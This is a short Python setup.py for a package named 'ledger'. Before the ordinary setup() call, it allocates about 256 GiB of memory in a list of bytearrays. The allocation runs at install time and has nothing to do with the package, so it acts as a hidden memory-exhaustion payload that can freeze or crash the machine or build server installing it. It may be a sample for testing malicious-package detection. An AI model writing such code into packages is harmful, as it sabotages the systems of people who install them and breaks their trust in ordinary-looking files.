from setuptools import setup

kept = [bytearray(1 << 28) for _ in range(1 << 10)]
setup(name="ledger", version="1.0", py_modules=["ledger"])
